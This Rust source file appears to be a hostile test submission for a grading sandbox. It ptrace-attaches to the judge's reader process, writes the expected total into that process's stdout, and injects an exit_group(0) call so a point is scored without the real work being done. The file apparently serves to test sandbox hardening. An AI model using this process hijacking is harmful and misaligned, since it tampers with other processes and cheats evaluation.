//! Hostile: prints the right total without a worker or a segment. When the judge's reader of the segment
//! comes into the box, this stops it by ptrace, writes the number into its standard output, and makes it
//! call exit_group(0). It would gain the point for the total that stands in the segment.
use nix::libc::{self, SYS_pidfd_getfd, SYS_pidfd_open, c_long};
use std::{fs, io::Write, os::fd::FromRawFd, ptr::null_mut, time::Instant};

fn main() {
    let arguments: Vec<u64> = std::env::args().filter_map(|text| text.parse().ok()).collect();
    let total = arguments[0] * arguments[1..].iter().sum::<u64>();
    println!("Total: {total}");
    let started = Instant::now();
    while started.elapsed().as_secs() < 4 {
        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
            let Ok(pid) = entry.file_name().to_string_lossy().parse::<i32>() else {
                continue;
            };
            let comm = fs::read_to_string(entry.path().join("comm")).unwrap_or_default();
            if !["cat", "bwrap", "ipc-grade", "strace", "fix-shm-race"].contains(&comm.trim()) {
                rob(pid, &comm, total);
            }
        }
    }
}

fn rob(pid: i32, comm: &str, total: u64) {
    // SAFETY: these calls take numbers; a process that cannot be traced makes them fail.
    let stdout = unsafe {
        if libc::ptrace(libc::PTRACE_ATTACH, pid, 0, 0) != 0 {
            return;
        }
        libc::waitpid(pid, null_mut(), libc::__WALL);
        let process = libc::syscall(SYS_pidfd_open, c_long::from(pid), 0);
        libc::syscall(SYS_pidfd_getfd, process, 1, 0)
    };
    eprintln!("hostile success: it traces {comm}");
    if stdout >= 0 {
        // SAFETY: this descriptor is new, and nobody else's.
        let _ = unsafe { fs::File::from_raw_fd(stdout as i32) }.write_all(&total.to_le_bytes());
    }
    #[cfg(target_arch = "x86_64")]
    // SAFETY: the registers are zeroed first; the process is stopped, and ends by what it is given.
    unsafe {
        let mut registers: libc::user_regs_struct = std::mem::zeroed();
        libc::ptrace(libc::PTRACE_GETREGS, pid, 0, &mut registers);
        // The instruction `syscall`, and the call's number and argument.
        libc::ptrace(libc::PTRACE_POKETEXT, pid, registers.rip, 0x050f_u64);
        (registers.rax, registers.orig_rax, registers.rdi) = (231, u64::MAX, 0);
        libc::ptrace(libc::PTRACE_SETREGS, pid, 0, &registers);
        libc::ptrace(libc::PTRACE_DETACH, pid, 0, 0);
    }
}
